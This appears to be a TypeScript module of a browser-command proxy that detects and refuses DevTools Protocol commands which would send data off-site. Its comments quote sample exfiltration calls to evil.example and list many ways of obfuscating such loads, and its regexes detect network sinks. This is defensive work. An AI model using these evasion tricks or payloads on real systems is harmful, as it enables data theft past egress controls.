// The URLs written in code and markup a remote browser is told to run (Chrome DevTools Protocol:
// `Runtime.evaluate`, `Runtime.callFunctionOn`, `DOM.setOuterHTML`, `Page.setDocumentContent`, …),
// each then judged as the GET of that URL (`cdpLoadsOf`, describe/tunnel-sql.ts). Twentieth pass,
// left open by the nineteenth: `Runtime.evaluate {expression: "fetch('https://evil.example/?d=…')"}`
// and `DOM.setOuterHTML {outerHTML: "<img src=//evil.example/?d=…>"}` were relayed undecided, and
// the browser carried the data to another site from outside Airlock.
//
// Read: absolute URLs (http, https, ws, wss; slashes written as `\/` or backslashes; a tab or line
// break inside, which URL parsers drop), scheme-relative ones after a quote, `=`, `(` or `,`
// whose host holds a dot or is an address (`src=//evil.example/x`, `url(//1.2.3.4/x)`; an XPath
// `//div` is none), once JavaScript's escapes (`\x68`, `\u0068`, `\u{68}`) and HTML's character
// references are undone, and inside string literals written in base64 (`atob('aHR0cHM6…')`). A
// scheme with no host after it (`'https://' + host`) is returned as written: it does not parse, so
// the command is refused (its host is made at run time); a host assigned to `location.host` or a
// URL's `hostname` is a load of it. Twenty-first pass: a URL assembled from literal pieces
// (`'ht' + 'tps:/' + '/evil.example'`, `.concat`, character codes written out, a list joined, a
// literal decoded, a template's literal substitutions) is read as the string it makes, and one whose
// host is made at run time (`'//' + h`) is refused (`assembled`); code that sends a write has its
// URLs judged as writes, and one naming no URL is refused (`codeSends`); a load whose URL is
// computed or relative to the page is refused (`computedLoad`). Twenty-second pass, follow-up: a
// load through a construct not followed here (a sink under another name or called by reflection,
// a global's member named at run time, a string made at run time and run) is refused
// (`hiddenLoad`). Not read (docs/proxy.md says so): a write whose method the code hides
// (`fetch(u, opts)` with `opts` made elsewhere), code held in a variable and run (`eval(s)`), a
// member named by a variable on another object (`g[k](u)`): JavaScript is not read as a program.
import { createRequire } from 'node:module';
import type { Token } from 'acorn';
import { Parser } from 'htmlparser2';
import { entriesOnce, lookupTable } from '../lib/records.ts';
import { writeForgetting } from './markup-slices.ts';

/** URLs returned per text at most: past it the caller refuses (a text naming more is not decided piecemeal). */
export const MAX_CODE_URLS = 64;
/** Base64 literals decoded per text at most. */
const MAX_BASE64 = 64;

// After the scheme, any run of slashes or backslashes (none: `https:` alone is a protocol name, as
// in `location.protocol === 'https:'`), then what a URL in running text holds.
const absoluteUrl = /\b(?:https?|wss?):[\\/]+[^\s"'<>`{}|\\^\u0000-\u001f\u007f]*/gi;
// `//host…` after a character that starts a value in code, markup or CSS.
const schemeRelative = /["'`=(,]\s*[\\/]{2}([^\s"'<>`{}|\\^/?#\u0000-\u001f\u007f]+)([^\s"'<>`{}|\\^\u0000-\u001f\u007f]*)/g;
// A host given to a URL object or `location` by assignment (`location.host = 'evil.example'`,
// `u.hostname = "evil.example"`): the page then goes (or the URL points) there.
const hostAssigned = /\.(?:host|hostname)\s*=\s*["'`]([^"'`\s/\\?#]+)["'`]/g;
// A CSS hex escape of a letter of `https`, `wss`, or `:`, `/`, `\` (in any case, zeros before).
const cssHexEscape = /\\0{0,4}(?:[4-7][0-9a-f]|3a|2f|5c)(?![0-9a-f])/i;
const base64Literal = /["'`]([A-Za-z0-9+/_-]{12,}={0,2})["'`]/g;

const jsLetters: Readonly<Record<string, string>> = lookupTable({ n: '\n', r: '\r', t: '\t', b: '\b', f: '\f', v: '\v', 0: '\0' });

/** The hex number s holds from `from` to `to`, or -1. */
function hexAt(s: string, from: number, to: number): number {
  return to <= s.length && /^[0-9a-fA-F]+$/.test(s.slice(from, to)) ? parseInt(s.slice(from, to), 16) : -1;
}

/**
 * JavaScript's string escapes undone (an unknown escape is its character, a line continuation
 * nothing, as JavaScript reads them). A scan, not a replace with a callback per escape (as
 * lib/text.ts jsonUnescaped): 200,000 escapes cost a second of callbacks.
 */
function jsUnescaped(s: string): string {
  if (!s.includes('\\')) return s;
  const out: string[] = [];
  let from = 0;
  for (let i = s.indexOf('\\'); i >= 0 && i + 1 < s.length; i = s.indexOf('\\', i)) {
    const c = s[i + 1]!;
    let one: string;
    let end = i + 2;
    if (c === 'x' && hexAt(s, i + 2, i + 4) >= 0) {
      one = String.fromCharCode(hexAt(s, i + 2, i + 4));
      end = i + 4;
    } else if (c === 'u' && s[i + 2] === '{' && hexAt(s, i + 3, i + 3 + s.slice(i + 3, i + 10).indexOf('}')) >= 0) {
      // (`}` looked for within the six digits a code point has: a search to the end would be quadratic)
      const close = i + 3 + s.slice(i + 3, i + 10).indexOf('}');
      const code = hexAt(s, i + 3, close);
      one = code <= 0x10ffff ? String.fromCodePoint(code) : '';
      end = close + 1;
    } else if (c === 'u' && hexAt(s, i + 2, i + 6) >= 0) {
      one = String.fromCharCode(hexAt(s, i + 2, i + 6));
      end = i + 6;
    } else one = c === '\n' || c === '\r' ? '' : (jsLetters[c] ?? c);
    out.push(s.slice(from, i), one);
    from = i = end;
  }
  out.push(s.slice(from));
  return out.join('');
}

/**
 * CSS's escapes undone as the CSS parser reads a style sheet, a style attribute or a string in one:
 * `\` and one to six hex digits is that code point (one blank after it is part of the escape), an
 * escaped line break is nothing, any other escaped character is itself (twenty-second pass:
 * `url(\68ttps\3a\2f\2f evil\2e example\2f c)` is `https://evil.example/c` to the browser and
 * named no URL to the reader). A scan, as jsUnescaped.
 */
export function cssUnescaped(s: string): string {
  if (!s.includes('\\')) return s;
  const out: string[] = [];
  let from = 0;
  for (let i = s.indexOf('\\'); i >= 0 && i + 1 < s.length; i = s.indexOf('\\', i)) {
    let end = i + 1;
    while (end < s.length && end - i <= 6 && /[0-9a-fA-F]/.test(s[end]!)) end++;
    let one: string;
    if (end > i + 1) {
      const code = parseInt(s.slice(i + 1, end), 16);
      one = code === 0 || code > 0x10ffff || (code >= 0xd800 && code <= 0xdfff) ? '\ufffd' : String.fromCodePoint(code);
      if (s[end] === '\r' && s[end + 1] === '\n') end += 2;
      else if (end < s.length && /[ \t\n\r\f]/.test(s[end]!)) end++;
    } else {
      const c = s[i + 1]!;
      one = c === '\n' || c === '\r' || c === '\f' ? '' : c;
      end = c === '\r' && s[i + 2] === '\n' ? i + 3 : i + 2;
    }
    out.push(s.slice(from, i), one);
    from = i = end;
  }
  out.push(s.slice(from));
  return out.join('');
}

/** HTML character references decoded as a browser decodes them in markup it is given. */
function referencesDecoded(s: string): string {
  if (!s.includes('&')) return s;
  const out: string[] = [];
  const p = new Parser({ ontext: (text) => void out.push(text) }, { decodeEntities: true });
  p.write(s.replaceAll('<', '\u0000')); // text only: no tag can start (NUL ends a URL as `<` does)
  p.end();
  return out.join('');
}

/** Whether a scheme-relative host is one: a name with a dot or an IPv6 literal (not `//div` in an XPath). */
function relativeHost(host: string): boolean {
  const h = host.replace(/^.*@/, '');
  return h.startsWith('[') || /[^.]\.[^.]/.test(h);
}

/** A string literal in code: where it is, and its value (a template's substitutions as `parts`). */
interface Literal { start: number; end: number; value: string; dynamic: string[]; folded: boolean }

/**
 * The string literals of code, left to right in one pass (a literal left open ends the scan of
 * its line: a regular expression retrying from every quote was quadratic). A template's
 * substitution that is itself one literal is its value; another is made at run time: the value
 * holds U+0000 there (a URL read in it ends), and `dynamic` the text before each.
 */
function literals(code: string, max = 100_000): Literal[] {
  const out: Literal[] = [];
  let noBraceFrom = Infinity; // past here no `}` is left
  for (let i = 0; i < code.length && out.length < max; i++) {
    const q = code[i]!;
    if (q !== "'" && q !== '"' && q !== '`') continue;
    let value = '';
    let folded = false;
    const dynamic: string[] = [];
    let j = i + 1;
    let closed = false;
    let from = j;
    while (j < code.length) {
      const c = code[j]!;
      if (c === '\\') {
        j += 2;
        continue;
      }
      if (c === q) {
        closed = true;
        break;
      }
      if (q !== '`' && (c === '\n' || c === '\r')) break;
      if (q === '`' && c === '$' && code[j + 1] === '{') {
        const close = j + 2 >= noBraceFrom ? -1 : code.indexOf('}', j + 2);
        if (close < 0) {
          noBraceFrom = Math.min(noBraceFrom, j + 2);
          break;
        }
        const inner = code.slice(j + 2, close).trim();
        value += jsUnescaped(code.slice(from, j));
        const one = /^(['"])((?:(?!\1)[^\\\n]|\\[\s\S])*)\1$/.exec(inner);
        folded = true;
        if (one) value += jsUnescaped(one[2]!);
        else {
          if (!ownSite.test(inner)) dynamic.push(value);
          value += '\u0000';
        }
        j = from = close + 1;
        continue;
      }
      j++;
    }
    if (!closed) {
      i = j; // left open: no literal starts inside what was scanned
      continue;
    }
    value += jsUnescaped(code.slice(from, j));
    out.push({ start: i, end: j + 1, value, dynamic, folded });
    i = j;
  }
  return out;
}

// What a page's own code reads its site from: a host made from it stays on the page's site.
const ownSite = /^\s*(?:(?:\+|\)\s*\.\s*concat\s*\(|\.\s*concat\s*\(|\$\{)\s*)?(?:(?:window|self|globalThis|document)\s*\.\s*)?(?:location\s*\.\s*(?:host|hostname|origin)|domain)\b/;
// A piece ending where a URL's host begins: `//` with or without a scheme, a scheme alone, userinfo's `@`.
const hostNext = (value: string): boolean => {
  const tail = value.slice(-256);
  return /(?:^|[^\\/])[\\/]{2}$/.test(tail) || /^[a-z][a-z0-9+.-]{0,30}:[\\/]?$/i.test(value) || /:[\\/]{2}[^\\/?#\s]{0,200}@$/.test(tail);
};
// Between two pieces of one string: `+`, or `.concat(`.
const joiner = /^\s*(?:\)\s*)?(?:\+|\.\s*concat\s*\()\s*$/;
const moreNext = /^\s*(?:\)\s*)?(?:\+|\.\s*concat\s*\()/;
const numberLiteral = /^(?:0[xX][0-9a-fA-F]+|0[oO][0-7]+|0[bB][01]+|\d+)$/;
const decodedCall = /\b(decodeURIComponent|decodeURI|unescape)\s*\(\s*(['"`])([^'"`\\\n]{0,20000})\2\s*\)/g;
const charCodes = /String\s*\.\s*from(?:CharCode|CodePoint)\s*\(([^()]{1,20000})\)/g;

/**
 * The code with the strings it assembles from literal pieces written as the one literal they make
 * (twenty-first pass: `'//' + 'evil.example/c'`, `'ht' + 'tps:/' + '/evil.example'`,
 * `String.fromCharCode(104, …)`, `['https:', '', 'evil.example'].join('/')`,
 * `` `//${'evil.example'}` ``, `decodeURIComponent('https%3A%2F%2F…')` were read as no URL), and
 * whether a URL's host is made at run time: a piece ending where a host begins followed by anything
 * but a literal or the page's own site (`'//' + h`, `` `https://${h}/` ``, `location.hostname = h`).
 */
export function assembled(text: string): { strings: string[]; runtimeHost: boolean } {
  let runtimeHost = false;
  const strings: string[] = [];
  // Character codes written out (or spread from a list written out) are the literal they make.
  // Codes computed are not known (Playwright's injected script makes characters so): a host made
  // of them is caught where it joins a `//`.
  let t = text.replace(charCodes, (whole, args: string) => {
    const codes = args.replace(/^\s*\.\.\.\s*\[([^\]]*)\]\s*$/, '$1').split(',').map((a) => a.trim()).filter((a) => a !== '');
    if (!codes.length || !codes.every((c) => numberLiteral.test(c))) return whole;
    const points = codes.map((c) => Number(c));
    const made = points.every((n) => n <= 0x10ffff) ? String.fromCodePoint(...points) : '';
    strings.push(made);
    return JSON.stringify(made);
  });
  // A literal the code decodes (`decodeURIComponent('https%3A%2F%2F…')`) is what it decodes to.
  t = t.replace(decodedCall, (whole, fn: string, _q: string, v: string) => {
    try {
      const made = fn === 'unescape' ? unescape(v) : fn === 'decodeURI' ? decodeURI(v) : decodeURIComponent(v);
      strings.push(made);
      return JSON.stringify(made);
    } catch {
      return whole; // not an escape sequence: as written
    }
  });
  for (const m of t.matchAll(/\.\s*(?:host|hostname)\s*=(?!=)\s*([^;\n]{0,200})/g)) {
    if (!/^(['"`])[^'"`]*\1/.test(m[1]!.trim()) && !ownSite.test(m[1]!)) runtimeHost = true;
  }
  const lits = literals(t);
  let at = 0;
  for (let k = 0; k < lits.length; k++) {
    const first = lits[k]!;
    for (const before of first.dynamic) if (hostNext(before)) runtimeHost = true;
    // A run of pieces joined by `+` or `.concat(`.
    let value = first.value;
    let last = first;
    while (k + 1 < lits.length && joiner.test(t.slice(last.end, lits[k + 1]!.start))) {
      const next = lits[++k]!;
      for (const before of next.dynamic) if (hostNext(value + before)) runtimeHost = true;
      value += next.value;
      last = next;
    }
    const rest = t.slice(last.end, last.end + 80);
    if (hostNext(value) && moreNext.test(rest) && !ownSite.test(rest.replace(/^\s*\)/, ''))) runtimeHost = true;
    // A list of pieces joined (`['https:', '', 'evil.example'].join('/')`).
    let start = first.start;
    let end = last.end;
    if (first === last && /\[\s*$/.test(t.slice(Math.max(at, first.start - 20), first.start))) {
      const items = [first.value];
      let j = k;
      while (j + 1 < lits.length && /^\s*,\s*$/.test(t.slice(lits[j]!.end, lits[j + 1]!.start))) items.push(lits[++j]!.value);
      const tail = /^\s*(?:,\s*)?\]\s*\.\s*join\s*\(\s*/.exec(t.slice(lits[j]!.end, lits[j]!.end + 200));
      if (tail) {
        const sepLit = lits[j + 1];
        const after = lits[j]!.end + tail[0].length;
        const sep = sepLit && sepLit.start === after && /^\s*\)/.test(t.slice(sepLit.end)) ? sepLit : undefined;
        if (sep || /^\s*\)/.test(t.slice(after))) {
          value = items.join(sep ? sep.value : ',');
          start = t.lastIndexOf('[', first.start);
          end = sep ? sep.end : after;
          k = sep ? j + 1 : j;
        }
      }
    }
    if (start < at) continue;
    if (first !== last || start !== first.start || end !== first.end || first.folded) strings.push(value);
    at = end;
  }
  return { strings: strings.slice(0, MAX_CODE_URLS * 4), runtimeHost };
}

// Where code has the browser load a URL (twenty-first pass): a call or assignment that takes one.
// (Twenty-second pass: `fetchLater`, a service worker registered, a `ping` or `imageSrcset` set, a
// property named in brackets, `img['src'] = …`, `window['location'] = …`, were not read.)
const loadCalls = /\bregisterProtocolHandler\s*\(\s*(['"`])[^'"`\n]{0,100}\1\s*,|\b(?:fetch|fetchLater|sendBeacon|importScripts|import|open|registerProtocolHandler|addModule)\s*[(`]|\bnavigation\s*\.\s*navigate\s*\(|\bserviceWorker\s*\.\s*register\s*\(|\blocation\s*\.\s*(?:assign|replace)\s*\(|\bnew\s+(?:Worker|SharedWorker|EventSource|WebSocket|Request|Audio)\s*\(/g;
const loadAssignments = /(?:\.\s*(?:src|href|action|formAction|poster|srcset|imageSrcset|ping|lowsrc|search|pathname|port|protocol)|(?<!\bstyle\s*)\.\s*background|\[\s*(['"`])(?:src|href|action|formAction|poster|srcset|imageSrcset|ping|background|search|pathname|port|protocol|location)\1\s*\]|\blocation)\s*=(?!=)/g;
const loadAttributes = /\bsetAttribute(?:NS\s*\(\s*[^,()]{0,200},|\s*\()\s*(['"`])(?:xlink:)?(?:src|href|action|formaction|poster|srcset|ping|background)\1\s*,/gi;
const httpMethod = /^(['"`])\s*(?:get|head|post|put|patch|delete|options)\s*\1\s*,/i;

/**
 * Whether code has the browser load a URL that is not written out whole: computed at run time
 * (`fetch(u)`, `img.src = s + s + h`, `` fetch(`/c?d=${x}`) ``) or relative to the page
 * (`fetch('/c?d=' + x)`, `location.search = '?d=…'`). Such a load cannot be decided here: the
 * host is chosen when the code runs, or is the page's, which the tunnel does not know (a click may
 * have taken it anywhere; a page reached by a served link takes only that link). Twenty-first
 * pass: both were relayed, and the browser took data to a host nobody decided. An absolute URL
 * written out (read by `codeUrls`), an empty one and a fragment are decided or load nothing.
 */
export function computedLoad(code: string): boolean {
  const text = spelledOut(code);
  if (!/fetch|sendBeacon|import|open|location|Worker|EventSource|WebSocket|Request|Audio|src|href|action|poster|search|pathname|port|protocol|setAttribute|ping|background|register|addModule|navigate|State/i.test(text)) return false;
  const lits = literals(text);
  const at = new Map(lits.map((l, i) => [l.start, i]));
  // The literal run an argument begins with, and whether it is the whole argument.
  const argument = (from: number): { value: string; whole: boolean } | undefined => {
    let i = from;
    while (i < text.length && /\s/.test(text[i]!)) i++;
    let k = at.get(i);
    if (k === undefined) return undefined;
    let value = lits[k]!.value;
    while (k + 1 < lits.length && joiner.test(text.slice(lits[k]!.end, lits[k + 1]!.start))) value += lits[++k]!.value;
    const cut = value.indexOf('\u0000'); // a template's substitution: computed from there
    if (cut >= 0) return { value: value.slice(0, cut), whole: false };
    return { value, whole: /^\s*(?:[,);}\]]|$|\n)/.test(text.slice(lits[k]!.end, lits[k]!.end + 40)) };
  };
  // Decided: an absolute URL written out (read by codeUrls), an empty one, a fragment; or one whose
  // scheme, host and the delimiter after the host are written out, the rest computed: the host is
  // fixed, and the URL judged is that prefix (a served link is its exact URL, which a prefix is not).
  const decided = (a: { value: string; whole: boolean } | undefined): boolean => a !== undefined && (a.whole
    ? a.value.trim() === '' || /^\s*#/.test(a.value) || /^\s*(?:(?:https?|wss?):|[\\/]{2}|about:)/i.test(a.value)
    : /^\s*(?:(?:https?|wss?):)?[\\/]{2}[^\\/?#\s]+[\\/?#]/i.test(a.value));
  let seen = 0;
  // The document's URL rewritten (twenty-fifth pass: `history.replaceState(null, '', '/c?d=' + d)`,
  // then `location.reload()` or `Page.reload`, loads it on the page's host): its third argument.
  const litMap = new Map(lits.map((l) => [l.start, l]));
  for (const m of text.matchAll(/\b(?:pushState|replaceState)\s*\(/g)) {
    if (++seen > 1000) return true;
    const args = callArguments(text, m.index! + m[0].length, litMap);
    if (!args) return true;
    if (args.length >= 3 && !decided(argument(args[2]!.at))) return true;
  }
  for (const re of [loadCalls, loadAssignments, loadAttributes]) {
    for (const m of text.matchAll(re)) {
      if (++seen > 1000) return true; // more than is read: not decided piecemeal
      let from = m.index! + m[0].length;
      if (m[0].endsWith('`')) from--; // a tagged template (`` fetch`/c?d=${d}` ``): the template is its argument
      // `xhr.open('POST', url)`: the URL is the second argument (`window.open(url)` the first).
      if (/open\s*\($/.test(m[0])) {
        const method = httpMethod.exec(text.slice(from).trimStart());
        if (method) from = text.indexOf(method[0], from) + method[0].length;
        else if (/^\s*\)/.test(text.slice(from))) continue; // `document.open()`: no URL
      }
      if (/^\s*\)/.test(text.slice(from)) && /\(\s*$/.test(m[0])) continue; // a call with no argument
      if (!decided(argument(from))) return true;
    }
  }
  return false;
}

/**
 * Code with the spellings of a member or call that hide its name undone (twenty-second pass,
 * follow-up): optional chaining (`window?.fetch?.(u)` is `window.fetch(u)`; `?.5` is a ternary's
 * number) and a name written as a literal in brackets, escapes undone (`window['fetch'](u)`,
 * `img["src"] = u`, `window['\x66etch']`).
 */
function spelledOut(code: string): string {
  return code.replace(/\?\.(?=\s*[([`])/g, '').replace(/\?\.(?![0-9])/g, '.').replace(/\[\s*(['"`])((?:[\w$]|\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\u\{[0-9a-fA-F]{1,6}\}){1,40})\1\s*\]/g, (whole, _q: string, name: string) => {
    const n = jsUnescaped(name); // (`window['\x66etch']`)
    return /^[A-Za-z_$][\w$]*$/.test(n) ? `.${n}` : whole;
  });
}

// A function that loads or runs code, named other than in a call of it (`const f = fetch`,
// `{fetch: f} = window`, `fetch.call(…)`, `[fetch][0](u)`, `Reflect.apply(fetch, …)`, a tag, a
// class extending it):
// not after `typeof`, `new` or `instanceof`, nor a constructor's static member (`WebSocket.OPEN`).
const sinkNamed = /(?<!\btypeof\s{1,20}|\bnew\s{1,20}|\binstanceof\s{1,20})\b(?:fetch|fetchLater|sendBeacon|importScripts|registerProtocolHandler|eval|execScript|Function|WebSocket|EventSource|SharedWorker|Worker|Request|Audio|Image|XMLHttpRequest|addModule)\b(?=\s*(?:[,;:)\]{}=`\n]|\.\s*(?:call|apply|bind)\b|$))/;
// The same name as a literal key or a property named last (`{'fetch': f} = window`,
// `Reflect.get(self, 'fetch')`, `Object.getOwnPropertyDescriptor(window, 'fetch')`).
const sinkKey = /(['"`])(?:fetch|fetchLater|sendBeacon|importScripts|registerProtocolHandler|eval|execScript|Function)\1\s*[:)]/;
// A global object's member named by a value computed at run time (`globalThis['fe' + 'tch'](u)`,
// `self[k].call(self, u)`, `window[k] = u`, `const f = self[k]`); its own members read on
// (`globalThis[key].callBinding(…)`, Playwright's bindings) are no load of it. Another name of the
// global object (`document.defaultView`, `top`, `this` at the top level) counts when so called. (Another object's
// member so named is not: Playwright's clock calls `api[method].apply(api, args)`.)
const globalComputed = /\b(?:window|globalThis|navigator|self)\s*\[[^\]\n]{1,200}\](?=\s*(?:[(`,;)\]}\n]|=(?!=)|\.\s*(?:call|apply|bind)\b|$))|\b(?:defaultView|frames|top|parent|opener|contentWindow|this)\s*\[[^\]\n]{1,200}\](?=\s*(?:[(`]|\.\s*(?:call|apply|bind)\b))/;
// Properties set or functions called by reflection (a method that loads, sends or writes markup
// called through `call`, `apply` or `bind`: `XMLHttpRequest.prototype.open.call(x, 'GET', u)`;
// a setter taken from its descriptor and called:
// `Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set.call(img, u)`; a
// property defined, which calls no setter, is no load), code a `with` scope runs against an object,
// an attribute set as a node, the location held under another name, prefetches a page is told of.
const reflected = /\bReflect\s*\.\s*(?:set|apply)\b|\.\s*set\s*(?:\.\s*(?:call|apply|bind)\b|(?=[,;)\]}\n]|$))|\.\s*(?:open|assign|replace|submit|requestSubmit|send|setAttribute(?:NS)?|insertAdjacentHTML|write(?:ln)?|setHTMLUnsafe)\s*\.\s*(?:call|apply|bind)\b|\bwith\s*\(|\b(?:setAttributeNode(?:NS)?|getAttributeNode(?:NS)?|createAttribute(?:NS)?)\b|\.\s*attributes\s*\.\s*(?:src|href|action|formaction|poster|srcset|ping|background|data)\b|(?:=|\(|\bbind\s*\()\s*(?:(?:window|self|globalThis|document)\s*\.\s*)?location\s*(?:[;,)\]}\n]|$)|\}\s*=\s*(?:(?:window|self|globalThis|document)\s*\.\s*)?location\b|\blocation\s*\.\s*(?:assign|replace)\b(?!\s*\()|speculationrules/i;
// The document's URL rewritten by reflection or through another name of `history` (twenty-fifth pass).
const historyHeld = /\.\s*(?:pushState|replaceState)\s*\.\s*(?:call|apply|bind)\b|(?:=|\(|\bbind\s*\()\s*(?:(?:window|self|globalThis)\s*\.\s*)?history\s*(?:[;,)\]}\n]|$)/;
// Calls that run a string as code (`eval`, `Function`, a timer given a string, a function's constructor).
const runsCode = /(?:\b(?:eval|execScript|Function|setTimeout|setInterval)|\.\s*constructor)\s*\(/g;
// One name, perhaps in brackets written as literals (Playwright: `injected.eval('(' + params.functionText + ')')`).
const runName = /^(?:(?:"[^\w$"\\\n]{0,20}"|'[^\w$'\\\n]{0,20}')\s*\+\s*){0,4}[\w$]+(?:\s*\.\s*[\w$]+){0,8}(?:\s*\+\s*(?:"[^\w$"\\\n]{0,20}"|'[^\w$'\\\n]{0,20}')){0,4}$/;
// A URL property among an `Object.assign`'s keys (`Object.assign(img, {src: u})`).
const urlKey = /\b(?:src|href|action|formAction|poster|srcset|imageSrcset|ping|background|lowsrc|location|search|pathname|host|hostname|port|protocol|codebase)\b/;

/**
 * The arguments of a call whose `(` ends at `from`, as written: split at commas outside brackets
 * and string literals, at most 64 of them within 20,000 characters; undefined if it does not close there.
 */
function callArguments(code: string, from: number, lits: Map<number, Literal>): Array<{ at: number; text: string }> | undefined {
  const out: Array<{ at: number; text: string }> = [];
  let depth = 0;
  let start = from;
  for (let i = from; i < code.length && i < from + 20_000 && out.length < 64; i++) {
    const lit = lits.get(i);
    if (lit) {
      i = lit.end - 1;
      continue;
    }
    const c = code[i]!;
    if (c === '(' || c === '[' || c === '{') depth++;
    else if ((c === ')' || c === ']' || c === '}') && depth > 0) depth--;
    else if (c === ')' || (c === ',' && depth === 0)) {
      const raw = code.slice(start, i);
      out.push({ at: start + raw.length - raw.trimStart().length, text: raw.trim() });
      if (c === ')') return out.length === 1 && out[0]!.text === '' ? [] : out;
      start = i + 1;
    }
  }
  return undefined;
}

// `open` and the timers, whose names are also common names of other things (`dialog.open`, a
// handler map's `open:` key): the global's named other than in a call, or the bare name taken as a
// value or out of the global (`parent.open` is a `<details>` element's as often; twenty-third pass: `const f = window.open; f('/c?d=…')`,
// `const {open: f} = window`, `[open][0](…)`, `const f = setTimeout; f(s)` went on).
const heldGlobalSink = /\b(?:window|self|globalThis|document)\s*\.\s*(?:open|setTimeout|setInterval)\b(?!\s*\()|(?:[=\[,]|(?<!\b(?:if|while|switch)\s{0,20})\(|\breturn)\s*(?:open|setTimeout|setInterval)\s*(?=[;,)\]}\n]|$)|\{[^{}]{0,200}\b(?:open|setTimeout|setInterval)\b[^{}]{0,200}\}\s*=\s*(?:window|self|globalThis)\b/;

/**
 * Whether a name the code gives the global object (`const w = window`) has a member named at run
 * time, as `globalComputed` reads the global's own (twenty-third pass: `const w = window;
 * w['fe' + 'tch']('/c?d=…')` went on). A name given in an earlier command is not known here.
 */
function aliasComputed(text: string): boolean {
  const names = new Set([...text.matchAll(/(?<![.\w$])([A-Za-z_$][\w$]*)\s*=\s*(?:window|self|globalThis|top|parent|frames|document\s*\.\s*defaultView)\s*(?=[;,\n)]|$)/g)].slice(0, 16).map((m) => m[1]!));
  if (!names.size) return false;
  for (const m of text.matchAll(/(?<![.\w$])([A-Za-z_$][\w$]*)\s*\[[^\]\n]{1,200}\](?=\s*(?:[(`,;)\]}\n]|=(?!=)|\.\s*(?:call|apply|bind)\b|$))/g)) if (names.has(m[1]!)) return true;
  return false;
}

/**
 * Why code may load or send through a construct the reader does not follow, or undefined
 * (twenty-second pass, follow-up): a sink held under another name or called by reflection
 * (`const {fetch: f} = window; f(u)`, `fetch.call(0, u)`, `Reflect.apply(fetch, …)`,
 * `self[k].call(self, u)`, `globalThis['fe' + 'tch'](u)`), a property set by reflection
 * (`Object.assign(img, {src: u})`, `Reflect.set(img, 'src', u)`, `Object.defineProperty`), a
 * `with` scope, and code made from pieces at run time and run (`eval(a + b)`, `Function(a + b)()`,
 * `setTimeout('…' + d)`): each is refused, the code not being read as a program. What passes:
 * a call of a function written out (`setTimeout(() => …, 5)`), and a string run as code that is
 * one literal (read where it stands) or one variable (Playwright's injected script runs the
 * function text it is given so, a text read where it is given: a `callFunctionOn` argument).
 * Left open: code held in a variable made elsewhere, a member named by a variable on an object
 * that is not named as a global (`g[k](u)`, `el[k] = u`).
 */
export function hiddenLoad(code: string): string | undefined {
  // Escapes undone: a name spelled `\x66etch`, and code given as a JSON string (`callFunctionOn`'s arguments).
  const text = spelledOut(jsUnescaped(code));
  if (!/fetch|eval|Function|Timeout|Interval|\bopen\b|constructor|Reflect|Object|set|with|Attribute|location|speculation|window|globalThis|navigator|self|sendBeacon|import|register|Socket|Event|Worker|Request|Audio|Image|XMLHttp|addModule|defaultView|frames|top|parent|opener|this|history|State/i.test(text)) return undefined;
  if (sinkNamed.test(text) || sinkKey.test(text)) return 'names a function that loads or runs code other than in a call of it';
  if (heldGlobalSink.test(text)) return 'names a function that loads or runs code other than in a call of it';
  if (globalComputed.test(text) || aliasComputed(text)) return 'calls or sets a member of the page\'s global object named at run time';
  if (reflected.test(text)) return 'sets a property or calls a function by reflection, or through a `with` scope or another name for `location`';
  if (historyHeld.test(text)) return 'rewrites the document\'s URL by reflection or through another name for `history`';
  const lits = new Map(literals(text).map((l) => [l.start, l]));
  // A value a string run as code may be: one literal, one name, a function written out (minified
  // too: `async()=>…`, twenty-third pass: Puppeteer's injected script was refused for it).
  const plain = ({ at, text: a }: { at: number; text: string }): boolean => {
    if (a === '' || runName.test(a) || /^(?:async\s*(?=\()|async\s+)?(?:function\b|\([^()]{0,200}\)\s*=>|[\w$]+\s*=>)/.test(a)) return true;
    const lit = lits.get(at);
    // A template's one substitution that is a name (Playwright's `extend`: `` `…${source}…` ``).
    // A literal is read as the code it is (`Function('return fetch')` hands out the sink).
    return lit !== undefined && lit.end === at + a.length && hiddenLoad(lit.value.replaceAll('\u0000', ' ')) === undefined && (a[0] !== '`' || (a.split('${').length <= 2 && !/\$\{(?!\s*[\w$]+\s*\})/.test(a)));
  };
  let seen = 0;
  for (const m of text.matchAll(runsCode)) {
    if (++seen > 1000) return 'runs more strings as code than are read';
    const args = callArguments(text, m.index! + m[0].length, lits);
    if (!args) return 'runs a string as code whose end is not found';
    // `eval` and the timers run their first argument; `Function` and a constructor each.
    const run = /Function|constructor/.test(m[0]) ? args : args.slice(0, 1);
    if (!run.every(plain)) return 'runs as code a string it makes at run time';
  }
  // An attribute whose name is made at run time (`setAttribute('sr' + 'c', u)`); one held in a
  // variable is not read (Playwright's recorder sets `setAttribute(k, v)` from a list of its own).
  for (const m of text.matchAll(/\bsetAttribute(NS)?\s*\(/g)) {
    if (++seen > 2000) return 'sets more attributes than are read';
    const args = callArguments(text, m.index! + m[0].length, lits);
    if (!args) return 'sets an attribute in a call whose end is not found';
    const name = args[m[1] ? 1 : 0];
    if (name && !/^(?:[\w$]+(?:\s*\.\s*[\w$]+){0,8}|"[^"\n]*"|'[^'\n]*'|`[^`$\n]*`)$/.test(name.text)) return 'sets an attribute whose name is made at run time';
  }
  for (const m of text.matchAll(/\bObject\s*\.\s*assign\s*\(/g)) {
    if (++seen > 3000) return 'sets more properties by `Object.assign` than are read';
    const args = callArguments(text, m.index! + m[0].length, lits);
    // Into a new object (`Object.assign({}, defaults)`): no element's property is set.
    if (args && /^[{[]/.test(args[0]?.text ?? '')) continue;
    // A key spread in or computed (`{[k]: u}`, twenty-third pass: `k` may be `'src'`) is not known here.
    if (!args || args.slice(1).some(({ text: a }) => !a.startsWith('{') || /[{,]\s*(?:\.\.\.|\[)/.test(a) || urlKey.test(a))) return 'sets properties by `Object.assign` that may load a URL';
  }
  return undefined;
}

/**
 * The strings code runs as code that are written as one literal (`eval('…')`, `setTimeout("…")`,
 * `Function('…')`: `hiddenLoad` refuses any other), their escapes undone: read as code in turn
 * (twenty-fifth pass: `eval("img.\\u0073rc = '/c?d=' + d")` hid its name in the string's escapes).
 */
export function runLiterals(code: string): string[] {
  if (!/eval|Function|Timeout|Interval|constructor/.test(code)) return [];
  const found = literals(code);
  const lits = new Map(found.map((l) => [l.start, l]));
  const out: string[] = [];
  for (const m of code.matchAll(runsCode)) {
    if (out.length >= 64) break;
    const args = callArguments(code, m.index! + m[0].length, lits);
